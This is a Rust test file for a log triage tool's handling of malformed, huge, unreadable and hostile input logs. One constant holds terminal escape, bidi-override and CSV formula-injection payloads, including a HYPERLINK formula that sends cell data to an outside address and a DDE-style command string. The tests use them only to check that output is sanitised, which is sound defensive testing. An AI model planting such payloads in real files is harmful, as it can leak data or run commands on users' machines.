//! What is wrong with the input is told with its file, its line where there is one, and the remedy; exit code 2.
//! All the rest is still done, and every line is accounted for.
//!
//! `TRIAGE_HUGE=1` runs the line of 1 GiB too.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod common;

use common::{Ran, assert_books_balance, list, root, run_json, text, triage};
use serde_json::Value;
use std::fs;
use std::io::{Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use tempfile::TempDir;

/// Lines of the good log; each is one failed attempt of one incident.
const GOOD_LINES: u64 = 41;

/// A folder with one good log, `good.log`.
fn desk() -> TempDir {
    let desk = TempDir::new().unwrap();
    fs::write(desk.path().join("good.log"), good()).unwrap();
    desk
}

fn good() -> Vec<u8> {
    fs::read(root().join("samples/nginx.error/refused.log")).unwrap()
}

/// The report's entry for a log.
fn source<'a>(report: &'a Value, name: &str) -> &'a Value {
    let found = list(&report["sources"]).iter().find(|source| text(&source["path"]) == name);
    found.unwrap_or_else(|| panic!("{name} is not among the sources: {}", report["sources"]))
}

fn count(report: &Value, name: &str, part: &str) -> u64 {
    source(report, name)[part].as_u64().unwrap()
}

/// Attempts of the incidents of this cause.
fn attempts(report: &Value, cause: &str) -> u64 {
    let incidents = list(&report["incidents"]).iter().filter(|incident| text(&incident["cause"]) == cause);
    incidents.map(|incident| incident["attempts_failed"].as_u64().unwrap()).sum()
}

/// The run ended with this code, told all of `told` on one line of stderr, and judged `good.log` all the same.
#[track_caller]
fn assert_told(ran: &Ran, code: i32, told: &[&str]) -> Value {
    let line = ran.err.lines().find(|line| told.iter().all(|word| line.contains(word)));
    assert!(told.is_empty() || line.is_some(), "no line of stderr has all of {told:?}:\n{}", ran.err);
    assert_eq!(ran.code, code, "exit code; stderr: {}", ran.err);
    let report = ran.json();
    assert_books_balance(&report);
    assert_eq!(count(&report, "good.log", "events"), GOOD_LINES, "good.log was not read in full");
    assert!(attempts(&report, "upstream.refused") >= GOOD_LINES, "good.log was not judged: {}", report["incidents"]);
    report
}

/// Nothing could be done: exit code 2, one line of stderr with all of `told`, nothing on stdout.
#[track_caller]
fn assert_refused(ran: &Ran, told: &[&str]) {
    assert_eq!(ran.code, 2, "exit code; stderr: {}", ran.err);
    assert!(ran.err.lines().any(|line| told.iter().all(|word| line.contains(word))), "{told:?} not in: {}", ran.err);
    assert!(ran.out.is_empty(), "something stands on stdout");
}

#[test]
fn a_missing_path_is_told_with_the_nearest_name() {
    let desk = desk();
    let ran = run_json(desk.path(), ["god.log", "good.log"]);
    assert_told(&ran, 2, &["god.log", "there is no such file", "good.log"]);
}

#[test]
fn a_directory_without_logs_is_told() {
    let desk = desk();
    fs::create_dir(desk.path().join("bare")).unwrap();
    let ran = run_json(desk.path(), ["bare", "good.log"]);
    assert_told(&ran, 2, &["bare", "there is no log in this directory", ";"]);
}

#[test]
fn a_broken_gz_gives_the_exact_prefix_that_decodes() {
    a_broken_gz(|torn| torn.len() > b"2026/03/07 23:39:00 [".len());
}

#[test]
fn a_broken_gz_that_ends_within_a_stamp_gives_the_exact_prefix_too() {
    a_broken_gz(|torn| (1..b"2026/03/07 23:39:00 [".len()).contains(&torn.len()));
}

/// Breaks a gz off where `wanted` likes the torn last line.
fn a_broken_gz(wanted: impl Fn(&[u8]) -> bool) {
    let desk = desk();
    let whole = fs::read(root().join("samples/stories/rotated-set/error.log.2.gz")).unwrap();
    let torn = |decoded: &[u8]| decoded.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().to_vec();
    let mut ends = whole.len() / 2..whole.len() - 20;
    let end = ends.find(|end| wanted(&torn(&prefix_of_gz(&whole[..*end])))).unwrap();
    fs::write(desk.path().join("cut.log.gz"), &whole[..end]).unwrap();
    let decoded = prefix_of_gz(&whole[..end]);
    let whole_lines = decoded.iter().filter(|byte| **byte == b'\n').count() as u64;
    assert!(whole_lines > 5, "the sample is too small for this test");
    let ran = run_json(desk.path(), ["cut.log.gz", "good.log"]);
    let told = format!("first {} decompressed bytes", decoded.len());
    let report = assert_told(&ran, 2, &["cut.log.gz", "breaks off", &told, "fetch the archive again"]);
    assert_eq!(count(&report, "cut.log.gz", "events"), whole_lines, "each whole line of the prefix counts");
    assert_eq!(count(&report, "cut.log.gz", "cut"), 1, "the torn last line is counted as cut");
    let defect = text(&source(&report, "cut.log.gz")["defect"]);
    assert!(defect.contains("breaks off"), "the report's line for the log says so too: {defect}");
}

/// What another gzip reader makes of it before it fails.
fn prefix_of_gz(bytes: &[u8]) -> Vec<u8> {
    use std::io::Read;
    let mut decoded = Vec::new();
    let mut reader = flate2::read::GzDecoder::new(bytes);
    let mut byte = [0];
    while let Ok(1) = reader.read(&mut byte) {
        decoded.push(byte[0]);
    }
    decoded
}

#[test]
fn an_empty_file_is_no_fault() {
    let desk = desk();
    fs::write(desk.path().join("empty.log"), "").unwrap();
    let report = assert_told(&run_json(desk.path(), ["empty.log", "good.log"]), 0, &[]);
    assert_eq!(text(&source(&report, "empty.log")["format"]), "empty");
    let alone = run_json(desk.path(), ["empty.log"]);
    assert_eq!(alone.code, 0, "{}", alone.err);
}

#[test]
fn binary_bytes_are_counted_and_do_no_harm() {
    let desk = desk();
    let noise: Vec<u8> = (0..200_000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    fs::write(desk.path().join("noise.log"), &noise).unwrap();
    let report = assert_told(&run_json(desk.path(), ["noise.log", "good.log"]), 0, &[]);
    assert_eq!(count(&report, "noise.log", "events"), 0);
    let mut mixed = good();
    mixed.extend_from_slice(&noise);
    mixed.push(b'\n');
    mixed.extend_from_slice(&good());
    fs::write(desk.path().join("mixed.log"), mixed).unwrap();
    let report = assert_told(&run_json(desk.path(), ["mixed.log", "good.log"]), 0, &[]);
    assert_eq!(attempts(&report, "upstream.refused"), 3 * GOOD_LINES, "what stands around the noise is read");
}

#[test]
fn invalid_utf8_is_read_on() {
    let desk = desk();
    let bent = replace(&good(), b"GET /api/orders/", b"GET /\xff\xfe\xc3(/orders/");
    fs::write(desk.path().join("bent.log"), bent).unwrap();
    let report = assert_told(&run_json(desk.path(), ["bent.log", "good.log"]), 0, &[]);
    assert_eq!(count(&report, "bent.log", "events"), GOOD_LINES);
}

fn replace(text: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut bent = Vec::new();
    let mut at = 0;
    while at < text.len() {
        if text[at..].starts_with(from) {
            bent.extend_from_slice(to);
            at += from.len();
        } else {
            bent.push(text[at]);
            at += 1;
        }
    }
    assert!(from == to || bent != text, "nothing was replaced");
    bent
}

#[test]
fn utf16_with_a_byte_order_mark_is_read() {
    let desk = desk();
    let units: Vec<u16> = std::iter::once(0xfeff).chain(String::from_utf8(good()).unwrap().encode_utf16()).collect();
    fs::write(desk.path().join("le.log"), units.iter().flat_map(|unit| unit.to_le_bytes()).collect::<Vec<_>>())
        .unwrap();
    fs::write(desk.path().join("be.log"), units.iter().flat_map(|unit| unit.to_be_bytes()).collect::<Vec<_>>())
        .unwrap();
    let report = assert_told(&run_json(desk.path(), ["le.log", "be.log", "good.log"]), 0, &[]);
    assert_eq!(attempts(&report, "upstream.refused"), 3 * GOOD_LINES);
}

#[test]
fn crlf_changes_nothing() {
    let desk = desk();
    let story = root().join("samples/stories/php-workers-exhausted");
    for (name, end) in [("lf", &b"\n"[..]), ("crlf", b"\r\n")] {
        fs::create_dir(desk.path().join(name)).unwrap();
        for log in ["access.log", "error.log", "php8.2-fpm.log"] {
            let bytes = replace(&fs::read(story.join(log)).unwrap(), b"\n", end);
            fs::write(desk.path().join(name).join(log), bytes).unwrap();
        }
    }
    let incidents = |name: &str| {
        let report = run_json(&desk.path().join(name), ["."]).json();
        assert_books_balance(&report);
        let mut incidents = report["incidents"].clone();
        for incident in incidents.as_array_mut().unwrap() {
            let proofs = incident["evidence"].as_array_mut().unwrap();
            proofs.iter_mut().for_each(|proof| drop(proof.as_object_mut().unwrap().remove("offset")));
        }
        incidents
    };
    assert_eq!(incidents("lf"), incidents("crlf"));
}

#[test]
fn a_line_of_3_mib_is_cut_and_counted() {
    a_line_of(3 << 20);
}

#[test]
fn a_line_of_1_gib_is_cut_in_bounded_memory() {
    if std::env::var_os("TRIAGE_HUGE").is_some() {
        a_line_of(1 << 30);
    }
}

/// The most memory that a run over any log may take, in KiB: chunks under way, knowledge, tally.
#[cfg(target_os = "linux")]
const MOST_MEMORY_KIB: u64 = 200 << 10;

/// Good lines, one line of so many bytes, good lines: through a pipe, so that nothing is on disk.
fn a_line_of(bytes: usize) {
    let desk = desk();
    let mut command = triage(desk.path());
    command.args(["--output-format", "json", "-", "good.log"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let id = child.id();
    let writer = std::thread::spawn(move || {
        static BLOCK: [u8; 1 << 16] = [b'x'; 1 << 16];
        pipe.write_all(&good()).unwrap();
        for _ in 0..bytes / BLOCK.len() {
            pipe.write_all(&BLOCK).unwrap();
        }
        let most = most_memory_kib(id);
        pipe.write_all(b"\n").unwrap();
        pipe.write_all(&good()).unwrap();
        most
    });
    let ran = Ran::of(child.wait_with_output().unwrap());
    let most = writer.join().unwrap();
    let report = assert_told(&ran, 0, &[]);
    assert_eq!(count(&report, "stdin", "cut"), 1, "the long line is one cut line");
    assert_eq!(count(&report, "stdin", "lines"), 2 * GOOD_LINES + 1);
    assert_eq!(attempts(&report, "upstream.refused"), 3 * GOOD_LINES, "the lines around it are read");
    #[cfg(target_os = "linux")]
    assert!(most.unwrap() < MOST_MEMORY_KIB, "{most:?} KiB of memory for a line of {bytes} bytes");
    #[cfg(not(target_os = "linux"))]
    assert_eq!(most, None);
}

/// The most memory that a process has held so far, where the system tells.
fn most_memory_kib(process: u32) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{process}/status")).ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

#[test]
fn a_log_of_no_known_kind_is_a_fault_only_where_nothing_else_is_read() {
    let desk = desk();
    let strange: String = (0..100).map(|at| format!("<<{at}>> the quick brown fox {at}\n")).collect();
    fs::write(desk.path().join("strange.log"), strange).unwrap();
    let report = assert_told(&run_json(desk.path(), ["strange.log", "good.log"]), 0, &[]);
    assert_eq!(text(&source(&report, "strange.log")["format"]), "unknown");
    assert_eq!(count(&report, "strange.log", "unknown"), 100);
    let alone = run_json(desk.path(), ["strange.log"]);
    assert_eq!(alone.code, 2, "nothing at all was read");
    assert!(alone.err.contains("strange.log") && alone.err.contains("--log-format"), "{}", alone.err);
    assert_books_balance(&alone.json());
}

#[test]
fn a_log_of_no_known_kind_beside_others_is_noted() {
    let desk = desk();
    fs::write(desk.path().join("strange.log"), "<<1>> the quick brown fox\n".repeat(100)).unwrap();
    let report = assert_told(&run_json(desk.path(), ["strange.log", "good.log"]), 0, &[]);
    let noted = list(&report["notes"]).iter().any(|note| text(note).contains("strange.log"));
    assert!(noted, "no note tells of strange.log: {}", report["notes"]);
}

#[test]
fn a_slip_in_the_format_is_told_with_the_right_name() {
    let ran = run_json(desk().path(), ["--input-format", "nginx.eror", "good.log"]);
    assert_refused(&ran, &["--input-format", "nginx.eror", "did you mean \"nginx.error\"?"]);
}

#[test]
fn a_bad_log_format_is_told_with_how_it_should_look() {
    for wrong in ["log_format x", "$remote_addr $request", "log_format x '$status", ""] {
        let ran = run_json(desk().path(), ["--log-format", wrong, "good.log"]);
        assert_refused(&ran, &["--log-format", "log_format name '...';"]);
    }
}

#[test]
fn a_missing_nginx_conf_is_told() {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_triage"));
    let desk = desk();
    command.current_dir(desk.path()).args(["--nginx-conf", "no-such.conf", "good.log"]).stdin(Stdio::null());
    let ran = Ran::of(command.output().unwrap());
    assert_refused(&ran, &["no-such.conf"]);
}

#[test]
fn a_playbook_with_unknown_names_is_told_line_by_line() {
    let desk = desk();
    let playbook = "version = 1\n[roles]\napp = \"wbe\"\n[team.web]\n[[route]]\nname = \"a\"\nmatch = { cause = \"upstream.refusd\" }\nteam = \"payment\"\n[team.payments]\n";
    fs::write(desk.path().join("playbook.toml"), playbook).unwrap();
    let ran = run_json(desk.path(), ["--playbook", "playbook.toml", "good.log"]);
    assert_refused(&ran, &["playbook.toml:3:", "wbe", "known here: payments, web"]);
    assert_refused(&ran, &["playbook.toml:7:", "upstream.refusd", "did you mean \"upstream.refused\"?"]);
    assert_refused(&ran, &["playbook.toml:8:", "payment", "did you mean \"payments\"?"]);
    fs::write(desk.path().join("broken.toml"), "version = 1\n[roles\n").unwrap();
    assert_refused(&run_json(desk.path(), ["--playbook", "broken.toml", "good.log"]), &["broken.toml:2:"]);
    assert_refused(&run_json(desk.path(), ["--playbook", "none.toml", "good.log"]), &["none.toml", "cannot be read"]);
}

/// Log text that acts on a terminal, on the order of text, or in a spreadsheet.
const HOSTILE: &[(&str, &str)] = &[
    ("escape", "\u{1b}]0;owned\u{7}\u{1b}[2J"),
    ("C1", "\u{9b}31m"),
    ("bidi", "\u{202e}gnp.exe\u{2066}"),
    ("formula", "=HYPERLINK(\"http://198.51.100.1/\"&A1)"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("carriage return", "a\rERROR all is well"),
];

#[test]
fn hostile_text_is_harmless_in_every_output() {
    for (name, hostile) in HOSTILE {
        let desk = TempDir::new().unwrap();
        let line = |at: usize| {
            format!(
                "2026/03/10 08:00:0{at} [error] 7#7: *{at} connect() failed (111: Connection refused) while connecting to upstream, \
                 client: 203.0.113.{at}, server: {hostile}, request: \"GET /{hostile} HTTP/1.1\", upstream: \"http://{hostile}:80/\", host: \"{hostile}\"\n"
            )
        };
        fs::write(desk.path().join("hostile.log"), (0..9).map(line).collect::<String>()).unwrap();
        fs::write(desk.path().join("other.log"), format!("{hostile} unknown {hostile}\n").repeat(20)).unwrap();
        for args in [
            vec!["--output-format", "text"],
            vec!["--output-format", "json"],
            vec!["--output-format", "ndjson"],
            vec!["-o", "r.csv"],
        ] {
            let ran = Ran::of(triage(desk.path()).args(args).args(["hostile.log", "other.log"]).output().unwrap());
            assert_eq!(ran.code, 0, "{name}: {}", ran.err);
            assert_harmless(name, &ran.out);
            assert_harmless(name, ran.err.as_bytes());
        }
        for table in common::files(desk.path(), |name| name.ends_with(".csv")) {
            assert_csv_harmless(name, &table);
        }
    }
}

fn assert_harmless(name: &str, out: &[u8]) {
    let out = String::from_utf8(out.to_vec()).unwrap();
    let bad = out.chars().find(|letter| {
        (letter.is_control() && *letter != '\n')
            || ('\u{202a}'..='\u{202e}').contains(letter)
            || ('\u{2066}'..='\u{2069}').contains(letter)
    });
    assert_eq!(bad, None, "{name}: this character came through: {out}");
}

/// No cell of the table begins as a formula or a control character, once a spreadsheet has read it.
fn assert_csv_harmless(name: &str, path: &Path) {
    let mut table = csv::Reader::from_path(path).unwrap();
    let mut rows = 0;
    for row in table.records() {
        rows += 1;
        for cell in row.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) || cell == "-",
                "{name}: {}: {cell:?}",
                path.display()
            );
            assert!(!cell.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\u{7}']), "{name}: {}: {cell:?}", path.display());
        }
    }
    assert!(rows > 0, "{}: empty", path.display());
}

#[cfg(unix)]
mod unix {
    use super::*;
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    use std::process::Command;

    /// The user that owns nothing. As root, permissions mean nothing, so the program is run as this user then.
    const NOBODY: u32 = 65_534;

    /// The program for a user who may not read everything.
    fn triage_as_somebody(desk: &Path) -> Command {
        fs::set_permissions(desk, fs::Permissions::from_mode(0o755)).unwrap();
        if fs::read(desk.join("locked/secret.log")).is_err() {
            return triage(desk);
        }
        let program = desk.join("triage-copy");
        // By another process: a copy written by this one could still be open in a child that another test has just started.
        let copied = Command::new("cp").args([env!("CARGO_BIN_EXE_triage")]).arg(&program).status().unwrap();
        assert!(copied.success());
        let mut command = Command::new(program);
        command.uid(NOBODY).gid(NOBODY).current_dir(desk).stdin(Stdio::null());
        command.args(["--tz", "UTC", "--nginx-conf", "/dev/null"]);
        command
    }

    #[test]
    fn what_may_not_be_read_is_told_with_the_remedy() {
        let desk = desk();
        fs::create_dir(desk.path().join("locked")).unwrap();
        fs::write(desk.path().join("locked/secret.log"), good()).unwrap();
        fs::write(desk.path().join("secret.log"), good()).unwrap();
        fs::set_permissions(desk.path().join("secret.log"), fs::Permissions::from_mode(0o0)).unwrap();
        fs::set_permissions(desk.path().join("locked"), fs::Permissions::from_mode(0o0)).unwrap();
        let mut command = triage_as_somebody(desk.path());
        let ran =
            Ran::of(command.args(["--output-format", "json", "secret.log", "locked", "good.log"]).output().unwrap());
        fs::set_permissions(desk.path().join("locked"), fs::Permissions::from_mode(0o755)).unwrap();
        assert_told(&ran, 2, &["secret.log", "may not read it", "sudo"]);
        assert_told(&ran, 2, &["locked", "may not read it", "sudo"]);
    }

    fn fifo(path: &Path) {
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    }

    #[test]
    fn a_named_pipe_is_read_as_a_log() {
        let desk = desk();
        let pipe = desk.path().join("pipe");
        fifo(&pipe);
        let writer = std::thread::spawn(move || fs::write(pipe, good()).unwrap());
        let report = assert_told(&run_json(desk.path(), ["pipe", "good.log"]), 0, &[]);
        writer.join().unwrap();
        assert_eq!(count(&report, "pipe", "events"), GOOD_LINES);
    }

    #[test]
    fn a_named_pipe_in_a_directory_does_not_hang_the_run() {
        let desk = desk();
        fs::create_dir(desk.path().join("logs")).unwrap();
        fifo(&desk.path().join("logs/pipe.log"));
        fs::write(desk.path().join("logs/b.log"), good()).unwrap();
        let report = assert_told(&run_json(desk.path(), ["logs", "good.log"]), 0, &[]);
        assert_eq!(count(&report, "logs/b.log", "events"), GOOD_LINES);
    }
}

/// The log shrinks while it is read. To hold the reader within it, a pipe beside it gives no more lines until then.
#[cfg(target_os = "linux")]
#[test]
fn a_log_that_shrinks_while_it_is_read_is_told() {
    let desk = desk();
    let log = desk.path().join("big.log");
    fs::write(&log, good().repeat(800)).unwrap();
    let pipe = desk.path().join("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let mut command = triage(desk.path());
    command.args(["--output-format", "json", "-j", "1", "--chunk-bytes", "4096", "big.log", "pipe", "good.log"]);
    let child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut writer = fs::OpenOptions::new().write(true).open(&pipe).unwrap();
    let early = String::from_utf8(good()).unwrap().replace("2026/03/10", "2026/03/09");
    writer.write_all(early.repeat(8).as_bytes()).unwrap();
    wait_until_read(child.id(), &log);
    let file = fs::OpenOptions::new().write(true).open(&log).unwrap();
    file.set_len(200_000).unwrap();
    drop(writer);
    let ran = Ran::of(child.wait_with_output().unwrap());
    let report = assert_told(&ran, 2, &["big.log", "truncated or replaced", "rotated copy"]);
    assert!(count(&report, "big.log", "events") > GOOD_LINES, "what was there is used: {}", source(&report, "big.log"));
}

/// Waits until a process holds the file open and has read some of it.
#[cfg(target_os = "linux")]
fn wait_until_read(process: u32, file: &Path) {
    let file = fs::canonicalize(file).unwrap();
    let has_read = |entry: PathBuf| {
        let name = entry.file_name()?.to_owned();
        let is_it = fs::read_link(&entry).ok()? == file;
        let info = fs::read_to_string(format!("/proc/{process}/fdinfo/{}", name.to_string_lossy())).ok()?;
        let at: u64 = info.lines().next()?.strip_prefix("pos:")?.trim().parse().ok()?;
        (is_it && at > 0).then_some(())
    };
    for _ in 0..1000 {
        let open = fs::read_dir(format!("/proc/{process}/fd")).unwrap();
        if open.filter_map(|entry| has_read(entry.ok()?.path())).next().is_some() {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    panic!("the program does not read {}", file.display());
}

#[test]
fn a_log_that_is_named_twice_is_read_once() {
    let desk = desk();
    let report = assert_told(&run_json(desk.path(), ["good.log", "./good.log"]), 0, &[]);
    assert_eq!(report["totals"]["lines"].as_u64(), Some(GOOD_LINES));
}

#[test]
fn a_log_without_a_last_line_feed_loses_nothing() {
    let desk = desk();
    let path = desk.path().join("open-ended.log");
    fs::write(&path, good()).unwrap();
    let mut file = fs::OpenOptions::new().read(true).write(true).open(&path).unwrap();
    let end = file.seek(SeekFrom::End(-1)).unwrap();
    file.set_len(end).unwrap();
    let report = assert_told(&run_json(desk.path(), ["open-ended.log", "good.log"]), 0, &[]);
    assert_eq!(count(&report, "open-ended.log", "events"), GOOD_LINES);
}

#[test]
fn a_named_format_is_used_although_the_log_begins_otherwise() {
    let desk = desk();
    let mut late = "not a line of nginx\n".repeat(100).into_bytes();
    late.extend(good());
    fs::write(desk.path().join("late.log"), late).unwrap();
    let ran = Ran::of(
        triage(desk.path())
            .args(["--output-format", "json", "--input-format", "nginx.error", "late.log", "good.log"])
            .output()
            .unwrap(),
    );
    let report = assert_told(&ran, 0, &[]);
    assert_eq!((count(&report, "late.log", "unknown"), count(&report, "late.log", "events")), (100, GOOD_LINES));
}
